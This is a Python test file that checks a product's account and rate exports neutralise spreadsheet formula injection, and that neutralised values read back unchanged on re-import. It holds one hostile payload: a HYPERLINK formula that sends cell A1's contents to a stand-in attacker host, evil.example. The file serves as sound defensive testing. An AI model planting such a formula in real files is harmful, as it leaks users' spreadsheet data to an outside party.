"""Formula injection: every export of the product goes through one writer, so a name a
spreadsheet would run comes out as text, and reads back unchanged when imported."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import pytest
from openpyxl import load_workbook
from sqlalchemy import update
from sqlalchemy.orm import Session

from db.schema import Account

pytestmark = pytest.mark.usefixtures("demo")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def rename_alice(session_factory: Callable[[], Session]) -> None:
    with session_factory() as s:
        s.execute(update(Account).where(Account.id == 3).values(name=EVIL))
        s.commit()


def test_export_accounts_xlsx_and_csv_hold_no_live_formula(
    client_for: Callable[[str, str], Any], session_factory: Callable[[], Session]
) -> None:
    rename_alice(session_factory)
    reseller = client_for("reseller", "reseller").reseller
    book = load_workbook(io.BytesIO(reseller.ExportAccounts(format="xlsx").data))
    cells = [c for row in book.worksheets[0].iter_rows() for c in row if c.value is not None]
    assert {c.data_type for c in cells} == {"s"}
    assert "'" + EVIL in [c.value for c in cells]
    exported = reseller.ExportAccounts(format="csv")
    rows = list(csv.DictReader(io.StringIO(exported.data.decode(), newline="")))
    assert "'" + EVIL in [r["name"] for r in rows]
    assert not any(v.startswith("=") for r in rows for v in r.values())


def test_a_rate_destination_is_neutralised_and_reads_back_unchanged(
    client_for: Callable[[str, str], Any],
) -> None:
    config = client_for("admin", "admin").config
    config.ImportRates(
        sheet_id=3,
        csv=f'prefix,destination,price\n999,"{EVIL.replace(chr(34), chr(34) * 2)}",0.1\n',
        replace=False,
    )
    deck = config.ExportRates(sheet_id=3, format="csv")
    rows = list(csv.DictReader(io.StringIO(deck.data.decode(), newline="")))
    assert [r["destination"] for r in rows if r["prefix"] == "999"] == ["'" + EVIL]
    sheet = config.CreateRateSheet(sheet={"name": "Copy"})
    config.ImportRates(sheet_id=sheet.id, csv=deck.data.decode(), replace=True)
    copied = config.ListRates(sheet_id=sheet.id, prefix="999").items
    assert [r.destination for r in copied] == [EVIL]
